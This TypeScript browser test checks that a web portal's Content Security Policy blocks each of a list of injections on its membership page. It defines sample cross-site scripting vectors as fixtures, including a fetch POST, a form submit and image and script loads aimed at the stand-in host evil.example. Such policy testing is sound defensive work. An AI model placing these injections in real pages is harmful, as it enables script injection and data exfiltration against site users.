import { expect, test } from 'vitest'
import { openPortal } from '../support/browser/launch'

/** A script that adds an element with these properties. */
const add = (tag: string, properties: Readonly<Record<string, string>>) =>
  `document.body.appendChild(Object.assign(document.createElement('${tag}'), ${JSON.stringify(properties)}))`

/** Injections that the policy has to stop, at least one per directive. */
const injections: Readonly<Record<string, string>> = {
  'an inline script': add('script', { text: 'window.ran = true' }),
  'a script of another origin': add('script', { src: 'https://evil.example/script.js' }),
  'an inline event handler': `
    document.body.setAttribute('onclick', 'window.ran = true')
    document.body.click()`,
  // In a new frame: code that the test evaluates is not subject to the policy.
  'evaluated text': `requestAnimationFrame(() => {
    try { new Function('window.ran = true')() } catch {}
  })`,
  'a javascript: address': `${add('a', { href: 'javascript:window.ran = true' })}.click()`,
  'a request to another origin': `fetch('https://evil.example/', { method: 'POST' }).catch(() => undefined)`,
  'an image over HTTP': add('img', { src: 'http://evil.example/secret.png' }),
  'a frame of another origin': add('iframe', { src: 'https://evil.example/' }),
  'an inline style': add('style', { textContent: 'body { background: url("https://evil.example/") }' }),
  'a form to another origin': `${add('form', { action: 'https://evil.example/' })}.submit()`,
  'another base address': add('base', { href: 'https://evil.example/' }),
  'an object of another origin': add('object', { data: 'https://evil.example/object' }),
  'markup from text (reported only)': `document.createElement('div').innerHTML = '<b>bold</b>'`,
}

test('the policy stops every injection, and a violation fails the test', async () => {
  const { page, problems, close } = await openPortal()
  await page.goto('/membership')
  await page.getByRole('heading', { level: 1 }).waitFor()
  expect(problems).toEqual({ refused: [], errors: [] })

  const violations = () =>
    problems.errors.filter((text) => /^Violation \((enforce|report)\)/.test(text)).length
  for (const [name, script] of Object.entries(injections)) {
    const before = violations()
    await page.evaluate(script)
    await expect.poll(violations, { message: name }).toBeGreaterThan(before)
    expect({ name, ran: await page.evaluate('window.ran') }).toEqual({ name, ran: undefined })
  }
  await expect(close()).rejects.toThrow('Problems of the page')
})
